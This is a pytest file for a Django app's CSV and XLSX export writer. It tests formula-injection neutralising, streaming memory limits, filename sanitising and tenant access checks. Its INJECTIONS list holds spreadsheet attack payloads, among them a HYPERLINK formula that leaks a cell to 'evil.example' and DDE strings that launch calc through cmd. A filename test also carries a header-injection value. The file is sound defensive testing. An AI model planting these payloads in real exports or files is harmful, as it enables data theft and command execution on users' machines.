"""The export writer: formula injection, round trips, streaming in flat memory, headers."""

import csv
import io
import itertools
import tracemalloc
import zoneinfo
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.http import HttpRequest, HttpResponse
from django.urls import path, reverse
from django.utils import timezone, translation
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from accounts.access import org_view
from accounts.models import Workspace
from overgraph.exports import (
    CSV_CONTENT_TYPE,
    XLSX_CONTENT_TYPE,
    Sheet,
    content_disposition,
    csv_chunks,
    csv_response,
    neutralise,
    sheet_titles,
    write_xlsx,
    xlsx_response,
)

PARIS = zoneinfo.ZoneInfo("Europe/Paris")

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
    " =1+1",  # leading blanks: LibreOffice can be set to trim them
    "\n\n=1+1",
    "\u00a0=1+1",  # no-break space
    "\u200b=1+1",  # zero-width space
    "\ufeff@SUM(A1)",  # a stray BOM
    "\uff1d1+1",  # full-width equals: quoted on purpose (see FORMULA_TRIGGERS)
    "\uff0bcmd|' /C calc'!A0",
    "-5",  # text that looks like a number is still text from a stranger
]

HARMLESS = ["Boulogne-Billancourt", "#Boulbi", "Hello = world", "1-2", "", "a@b.fr", "Éléonore", " hello", "'quoted"]


@pytest.mark.parametrize("text", INJECTIONS)
def test_it_quotes_cells_a_spreadsheet_would_evaluate(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_it_leaves_harmless_text_alone(text):
    assert neutralise(text) == text


@pytest.mark.parametrize("number", [-5, 0, 12_000, -1.5, 0.25, Decimal("-2.50"), True, False])
def test_it_keeps_numbers_and_booleans_as_they_are(number):
    result = neutralise(number)
    assert result == number and type(result) is type(number)


@pytest.mark.parametrize("missing", [None, float("nan"), float("inf"), float("-inf")])
def test_it_writes_missing_values_as_empty_cells(missing):
    assert neutralise(missing) == ""


def test_it_writes_dates_and_datetimes_in_iso_in_the_given_time_zone():
    moment = datetime(2026, 1, 15, 23, 30, tzinfo=UTC)
    assert neutralise(date(2026, 7, 14)) == "2026-07-14"
    assert neutralise(moment, PARIS) == "2026-01-16T00:30:00+01:00"
    with timezone.override(zoneinfo.ZoneInfo("America/New_York")):
        assert neutralise(moment) == "2026-01-15T18:30:00-05:00"


def test_it_refuses_naive_datetimes():
    with pytest.raises(ValueError, match="naive"):
        neutralise(datetime(2026, 1, 1, 12, 0))  # noqa: DTZ001  (the point of the test)


def test_it_writes_other_objects_as_neutralised_text():
    with translation.override("en"):
        assert neutralise(gettext_lazy("Followers")) == "Followers"
    assert neutralise(_Weird()) == "'=2*3"


class _Weird:
    def __str__(self) -> str:
        return "=2*3"


# --- CSV ----------------------------------------------------------------------------------------


def _read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8 accents"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_it_round_trips_a_csv_through_the_csv_module():
    rows = [
        ["Éléonore, l'été", 'She said "hi"', "line\nbreak", -5, 2.5, None, True],
        ['=HYPERLINK("http://x")', "-5", "@me", 0, Decimal("1.10"), date(2026, 2, 1), False],
    ]
    data = b"".join(csv_chunks(["Nom", "Texte", "Multi", "N", "Taux", "Date", "Vu"], rows, tz=PARIS))
    assert _read_csv(data) == [
        ["Nom", "Texte", "Multi", "N", "Taux", "Date", "Vu"],
        ["Éléonore, l'été", 'She said "hi"', "line\nbreak", "-5", "2.5", "", "True"],
        ['\'=HYPERLINK("http://x")', "'-5", "'@me", "0", "1.10", "2026-02-01", "False"],
    ]
    assert b"\r\n" in data and b";" not in data


def test_it_neutralises_the_header_too():
    data = b"".join(csv_chunks(["=cmd"], []))
    assert _read_csv(data) == [["'=cmd"]]


def test_it_streams_a_csv_without_materialising_the_rows(db):
    pulled = itertools.count()

    def rows():
        for i in range(200_000):
            next(pulled)
            yield [i, f"post {i}", "=1+1" if i % 1000 == 0 else "ok", -i / 3]

    response = csv_response("big.csv", ["id", "text", "flag", "value"], rows())
    assert response.streaming
    assert next(pulled) == 0, "no row may be read before the body is sent"

    tracemalloc.start()
    try:
        total = lines = 0
        for chunk in response.streaming_content:
            total += len(chunk)
            lines += chunk.count(b"\r\n")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    response.close()
    assert lines == 200_001
    assert total > 5_000_000
    # The whole body is ~6 MB (and a materialised list of rows several times that); streaming
    # keeps the peak to a few chunks.
    assert peak < 2_000_000, f"peak {peak} bytes while streaming {total} bytes"


def test_it_sends_an_accented_filename_both_ways():
    header = csv_response("Abonnés été 2026", ["a"], [])["Content-Disposition"]
    assert header == (
        "attachment; filename=\"Abonnes ete 2026.csv\"; filename*=UTF-8''Abonn%C3%A9s%20%C3%A9t%C3%A9%202026.csv"
    )
    assert content_disposition("report.csv") == 'attachment; filename="report.csv"'


def test_it_cleans_filenames_that_try_to_escape():
    header = content_disposition('../../etc/pass"wd\r\nSet-Cookie: x.csv')
    assert "\r" not in header and "\n" not in header and "/" not in header
    assert header.startswith('attachment; filename="')
    assert header.count('"') == 2


# --- XLSX ---------------------------------------------------------------------------------------


def test_it_round_trips_an_xlsx_with_several_sheets():
    buffer = io.BytesIO()
    moment = datetime(2026, 6, 1, 10, 0, tzinfo=UTC)
    write_xlsx(
        buffer,
        [
            Sheet(
                "Posts",
                ["Text", "Likes", "Rate", "Published", "Repost"],
                [
                    ['=HYPERLINK("http://evil")', 12, 0.5, moment, False],
                    ["Bonjour\x01 Boulogne", -3, None, date(2026, 6, 2), True],
                    ["\x01=1+1", None, float("nan"), None, None],
                ],
            ),
            Sheet("Dictionary: fields/metrics", ["Field", "Definition"], [["engagement", "likes + comments"]]),
            Sheet("Posts", [], [["second sheet with the same title"]]),
        ],
        tz=PARIS,
    )
    workbook = load_workbook(io.BytesIO(buffer.getvalue()))
    assert workbook.sheetnames == ["Posts", "Dictionary  fields metrics", "Posts (2)"]
    posts = workbook["Posts"]
    values = [[cell.value for cell in row] for row in posts.iter_rows()]
    assert values == [
        ["Text", "Likes", "Rate", "Published", "Repost"],
        ['\'=HYPERLINK("http://evil")', 12, 0.5, "2026-06-01T12:00:00+02:00", False],
        ["Bonjour Boulogne", -3, None, "2026-06-02", True],
        ["'=1+1", None, None, None, None],
    ]
    assert all(cell.data_type != "f" for row in posts.iter_rows() for cell in row), "no formula may survive"
    assert posts["A1"].font.bold
    assert posts.freeze_panes == "A2"
    assert workbook["Posts (2)"]["A1"].value == "second sheet with the same title"


def test_it_makes_valid_unique_sheet_titles():
    titles = sheet_titles(["A" * 40, "A" * 40, "x[1]?", ""])
    assert titles == ["A" * 31, "A" * 27 + " (2)", "x 1", "Sheet"]


def test_it_truncates_cells_longer_than_excel_allows():
    buffer = io.BytesIO()
    write_xlsx(buffer, [Sheet("Long", ["text"], [["a" * 40_000]])])
    assert len(load_workbook(io.BytesIO(buffer.getvalue()))["Long"]["A2"].value) == 32_767


def test_it_writes_a_large_xlsx_in_flat_memory(db):
    def rows():
        for i in range(10_000):
            yield [i, f"post number {i} about #Boulbi", i * 0.01, "-x" if i % 7 == 0 else "ok"]

    tracemalloc.start()
    try:
        response = xlsx_response("big", [Sheet("Posts", ["id", "text", "rate", "flag"], rows())])
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    body = b"".join(response.streaming_content)
    response.close()
    assert response.streaming
    # openpyxl's write-only mode spools rows to disk (measured: 0.6 MB peak for 5k rows, 0.9 MB
    # for 20k); a normal workbook holds the cells in memory (19 MB for 20k rows of 4 cells).
    assert peak < 3_000_000, f"peak {peak} bytes"
    sheet = load_workbook(io.BytesIO(body), read_only=True)["Posts"]
    assert sum(1 for _ in sheet.iter_rows(values_only=True)) == 10_001


# --- A view that uses it ------------------------------------------------------------------------


@org_view()
def _workspaces_csv(request: HttpRequest) -> HttpResponse:
    def rows():
        # Runs while the body streams, after org_view left the tenant scope: csv_response must
        # carry the scope, or this query raises ScopeError.
        for workspace in Workspace.objects.filter(organization=request.organization).order_by("name"):
            yield [workspace.name, workspace.created_at]

    return csv_response(
        f"Espaces {request.organization.name}", [gettext_lazy("Name"), "Créé le"], rows(), tz="Europe/Paris"
    )


@org_view()
def _workspaces_xlsx(request: HttpRequest) -> HttpResponse:
    rows = Workspace.objects.filter(organization=request.organization).order_by("name").values_list("name")
    return xlsx_response("Espaces", [Sheet("Espaces", ["Name"], rows)])


urlpatterns = [
    path("o/<slug:org>/export.csv", _workspaces_csv, name="test_export_csv"),
    path("o/<slug:org>/export.xlsx", _workspaces_xlsx, name="test_export_xlsx"),
]


@pytest.fixture
def export_urls(settings):
    settings.ROOT_URLCONF = __name__


def test_it_serves_a_csv_download_from_a_view(tenancy, login, export_urls):
    response = login(tenancy.alice).get(reverse("test_export_csv", kwargs={"org": tenancy.org_a.slug}))
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == CSV_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="Espaces Org A.csv"'
    assert response["Cache-Control"] == "private, no-store"
    assert "Content-Security-Policy" in response
    rows = _read_csv(b"".join(response.streaming_content))
    assert [row[0] for row in rows] == ["Name", "A1", "A2"]
    assert rows[0] == ["Name", "Créé le"]
    assert rows[1][1].endswith(("+01:00", "+02:00"))


def test_it_serves_an_xlsx_download_from_a_view(tenancy, login, export_urls):
    response = login(tenancy.alice).get(reverse("test_export_xlsx", kwargs={"org": tenancy.org_a.slug}))
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="Espaces.xlsx"'
    assert int(response["Content-Length"]) > 0
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content)))["Espaces"]
    assert [row[0] for row in sheet.iter_rows(values_only=True)] == ["Name", "A1", "A2"]


def test_it_checks_ownership(tenancy, login, export_urls):
    response = login(tenancy.charlie).get(reverse("test_export_csv", kwargs={"org": tenancy.org_a.slug}))
    assert response.status_code == 404
